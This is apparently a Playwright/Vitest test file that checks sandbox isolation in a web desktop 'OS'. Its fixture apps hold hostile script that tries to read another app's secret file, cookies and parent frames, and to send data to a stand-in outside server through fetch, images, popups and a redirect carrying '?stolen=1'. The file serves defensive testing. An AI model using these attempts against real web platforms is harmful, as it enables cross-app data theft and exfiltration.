import { mkdir, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { launchBrowser } from '../support/browser.ts';
import { type Desktop, proofOf, signIn } from '../support/desktop.ts';
import { type RunningOs, startOs } from '../support/running-os.ts';

/** Tries what a hostile app would, and tells what it got. */
const spy = (outside: string, gateway: string) => `<!doctype html><title>Spy</title>
<script src="@os/app.js"></script><pre id="report">…</pre><script>
const attempts = {
  cookie: () => document.cookie,
  parentDocument: () => parent.document.title,
  topLocation: () => top.location.href,
  storage: () => localStorage.length,
  otherAppFile: () => fetch('../victim/data/secret.json').then((r) => r.text()),
  filesApi: () => fetch('/files/apps/victim/data/secret.json', { credentials: 'include' }).then((r) => r.text()),
  gatewayApi: () => fetch('${gateway}/api/apps', { credentials: 'include' }).then((r) => r.text()),
  outside: () => fetch('${outside}/fetch', { mode: 'no-cors' }).then(() => 'sent'),
  image: () => new Promise((resolve, reject) => {
    const image = new Image(); image.onload = () => resolve('sent'); image.onerror = () => reject(new Error('refused'));
    image.src = '${outside}/image';
  }),
  socket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket('${gateway}'.replace('http', 'ws') + '/ws');
    socket.onopen = () => resolve('open'); socket.onerror = () => reject(new Error('refused'));
  }),
  popup: () => { const w = open('${outside}/popup'); if (!w) throw new Error('refused'); return 'opened'; },
  dataOfAnother: () => matrix.data.get('../../victim/data/secret').then((v) => { if (v == null) throw new Error('nothing'); return v; }),
  frame: () => new Promise((resolve, reject) => {
    const frame = document.createElement('iframe'); frame.src = '/files/apps/victim/data/secret.json';
    frame.onload = () => { try { resolve(frame.contentDocument.body.textContent); } catch (e) { reject(e); } };
    document.body.append(frame); setTimeout(() => reject(new Error('nothing')), 1500);
  }),
};
(async () => {
  const report = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try { report[name] = 'GOT ' + await attempt(); } catch (error) { report[name] = 'refused'; }
  }
  document.getElementById('report').textContent = JSON.stringify(report);
})();
</script>`;

/** Leaves for another site, taking something along. */
const runaway = (outside: string) => `<!doctype html><title>Runaway</title><script>
location.href = '${outside}/navigation?stolen=1';
</script>`;

let os: RunningOs;
let browser: Browser;
let desktop: Desktop;
const visits: string[] = [];
const outside = createServer((request, response) => {
  visits.push(request.url ?? '');
  response.end('outside');
});

beforeAll(async () => {
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  [os, browser] = await Promise.all([startOs(), launchBrowser()]);
  const app = async (name: string, title: string, html: string) => {
    await mkdir(join(os.home, 'apps', name, 'data'), { recursive: true });
    await writeFile(join(os.home, 'apps', name, 'matrix.json'), JSON.stringify({ name, title }));
    await writeFile(join(os.home, 'apps', name, 'index.html'), html);
  };
  await app('victim', 'Victim', '<!doctype html>');
  await writeFile(join(os.home, 'apps/victim/data/secret.json'), '"the secret"');
  await app('spy', 'Spy', spy(url, os.gatewayUrl));
  await app('runaway', 'Runaway', runaway(url));
  desktop = await signIn(await browser.newContext(), os);
});
afterAll(async () => {
  await browser?.close();
  await os?.dispose();
  await new Promise((resolve) => outside.close(resolve));
});

it('gives an app no other app, no cookie, no parent and no network', async () => {
  await desktop.page.getByRole('button', { name: 'Spy' }).first().dblclick();
  const report = desktop.app('Spy').locator('#report');
  await report.filter({ hasText: '{' }).waitFor();
  const found = JSON.parse((await report.textContent()) ?? '{}') as Record<string, string>;
  expect(Object.keys(found)).toHaveLength(13);
  for (const [attempt, outcome] of Object.entries(found))
    expect(`${attempt}: ${outcome}`).toBe(`${attempt}: refused`);
  expect(visits).toEqual([]);
});

it('does not let an app leave for another site', async () => {
  await desktop.page.getByRole('button', { name: 'Runaway' }).first().dblclick();
  await desktop.window('Runaway').waitFor();
  // The frame ends on the browser's own page for a refused address.
  await expect
    .poll(() => desktop.page.frames().some((frame) => frame.url().startsWith('chrome-error:')), {
      timeout: 15_000,
    })
    .toBe(true);
  expect(visits).toEqual([]);
});

it('shows a page of the home without the power of the desktop', async () => {
  await writeFile(
    join(os.home, 'documents', 'evil.html'),
    '<title>before</title><script>document.title = "ran"; fetch("/api/apps").then((r) => { document.title = "got " + r.status; });</script>',
  );
  const { headers } = await proofOf(desktop.page);
  const body = JSON.stringify({ path: 'documents/evil.html' });
  const { url } = await desktop.page.evaluate(
    async (init) => (await fetch('/api/files/ticket', init)).json(),
    { method: 'POST', headers, body },
  );
  const page = await desktop.page.context().newPage();
  expect((await page.goto(`${os.url}/files/documents/evil.html`))?.status()).toBe(401);
  const opened = await page.goto(os.url + url).catch(() => undefined);
  expect(await page.title()).not.toContain('ran');
  expect(await page.title()).not.toContain('got');
  expect(opened?.headers()['content-security-policy'] ?? 'sandbox').toContain('sandbox');
  await page.close();
});
